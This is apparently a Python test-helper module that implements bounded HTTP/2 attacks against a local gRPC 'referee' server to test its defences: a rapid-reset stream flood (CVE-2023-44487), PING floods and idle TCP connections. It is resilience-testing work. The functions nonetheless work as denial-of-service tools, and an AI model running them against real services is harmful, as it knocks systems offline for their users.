"""Hostile clients of the referee, written from the wire alone: raw HTTP/2 (the ``h2``
package over a plain socket) for what a gRPC library never sends, plain sockets for
connections that never speak. tests/referee/test_attacks.py and benchmarks/hostile.py
(which loads this file by path) both use them.

Each attack is bounded in time and count and stops by itself; every address is on
this machine's loopback.
"""

from __future__ import annotations

import contextlib
import socket
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events

GRPC_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/arena.v1.ArenaService/ListBots"),
    (":authority", "referee"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def _split(address: str) -> tuple[str, int]:
    host, port = address.rsplit(":", 1)
    return host.strip("[]"), int(port)


class RawHttp2:
    """A client HTTP/2 connection over a plain socket: frames as the test makes them."""

    def __init__(self, address: str, source: str = "", timeout: float = 5.0) -> None:
        host, port = _split(address)
        self.sock = socket.create_connection(
            (host, port), timeout=timeout, source_address=(source, 0) if source else None
        )
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.initiate_connection()
        self.flush()
        self.closed = False
        self.goaway: h2.events.ConnectionTerminated | None = None
        self.ping_acks = 0
        self.refused = 0  # streams the server reset (REFUSED_STREAM and the like)

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def read(self, timeout: float = 0.0) -> bool:
        """Read what has come (waiting up to ``timeout``); False once the server closed
        the connection."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.closed = True
                    return False
                for event in self.h2.receive_data(data):
                    if isinstance(event, h2.events.PingAckReceived):
                        self.ping_acks += 1
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        self.goaway = event
                    elif isinstance(event, h2.events.StreamReset):
                        self.refused += 1
                with contextlib.suppress(OSError):
                    self.flush()
                self.sock.settimeout(0.0001)
        except (TimeoutError, BlockingIOError):
            return True
        except (OSError, h2.exceptions.ProtocolError):
            self.closed = True
            return False

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


@dataclass
class AttackReport:
    """What an attack did and what the referee did to it."""

    sent: int = 0  # streams opened, pings sent, connections opened
    connections: int = 0
    closed_after_s: list[float] = field(default_factory=list)  # per connection the referee cut
    goaways: list[str] = field(default_factory=list)  # their error codes (and debug data)
    acks: int = 0
    refused: int = 0


def rapid_reset(address: str, seconds: float, per_write: int = 100) -> AttackReport:
    """Streams opened and reset at once (CVE-2023-44487), as fast as this process can,
    for ``seconds``; a connection the referee closes is replaced by a new one."""
    report = AttackReport()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            conn = RawHttp2(address)
        except OSError:
            time.sleep(0.05)
            continue
        report.connections += 1
        opened = time.monotonic()
        try:
            while time.monotonic() < deadline:
                for _ in range(per_write):
                    stream = conn.h2.get_next_available_stream_id()
                    conn.h2.send_headers(stream, GRPC_HEADERS)
                    conn.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    report.sent += 1
                conn.flush()
                if not conn.read() or conn.goaway is not None:
                    break
        except (OSError, h2.exceptions.ProtocolError):
            conn.closed = True
        if conn.closed or conn.goaway is not None:
            report.closed_after_s.append(time.monotonic() - opened)
            if conn.goaway is not None:
                report.goaways.append(_goaway(conn.goaway))
        report.refused += conn.refused
        conn.close()
    return report


def ping_flood(address: str, count: int, wait: float = 5.0) -> AttackReport:
    """``count`` PINGs in one burst on a fresh connection, then read what comes back
    until the referee ends the connection (or ``wait`` seconds)."""
    report = AttackReport(connections=1)
    conn = RawHttp2(address)
    conn.read(0.2)  # the server's SETTINGS
    start = time.monotonic()
    try:
        for i in range(count):
            conn.h2.ping(i.to_bytes(8, "big"))
            report.sent += 1
        conn.flush()
    except OSError:
        pass
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline and conn.read(0.05) and conn.goaway is None:
        pass
    while conn.read(0.05):  # what follows the GOAWAY, to the connection's end
        if time.monotonic() > deadline + 2:
            break
    report.acks = conn.ping_acks
    if conn.goaway is not None or conn.closed:
        report.closed_after_s.append(time.monotonic() - start)
    if conn.goaway is not None:
        report.goaways.append(_goaway(conn.goaway))
    conn.close()
    return report


def ping_flood_for(address: str, seconds: float, burst: int = 1000) -> AttackReport:
    """PING floods of ``burst`` each, one connection after another, for ``seconds``."""
    total = AttackReport()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            one = ping_flood(address, burst, wait=min(2.0, max(0.1, deadline - time.monotonic())))
        except OSError:
            time.sleep(0.05)
            continue
        total.sent += one.sent
        total.connections += 1
        total.acks += one.acks
        total.closed_after_s += one.closed_after_s
        total.goaways += one.goaways
    return total


def silent_connections(address: str, count: int, source: str = "") -> list[socket.socket]:
    """``count`` TCP connections that never send a byte (each may be refused)."""
    host, port = _split(address)
    out = []
    for _ in range(count):
        try:
            out.append(
                socket.create_connection(
                    (host, port), timeout=5, source_address=(source, 0) if source else None
                )
            )
        except OSError:
            continue
    return out


def still_open(sockets: list[socket.socket]) -> int:
    """How many of ``sockets`` the referee has not closed (a closed one reads its end)."""
    alive = 0
    for sock in sockets:
        sock.settimeout(0.0001)
        try:
            while True:
                data = sock.recv(1 << 16)
                if not data:
                    break
        except (TimeoutError, BlockingIOError):
            alive += 1
        except OSError:
            pass
    return alive


def _goaway(event: h2.events.ConnectionTerminated) -> str:
    code = event.error_code
    name = code.name if hasattr(code, "name") else str(code)
    debug = (event.additional_data or b"").decode(errors="replace")
    return f"{name} {debug}".strip()
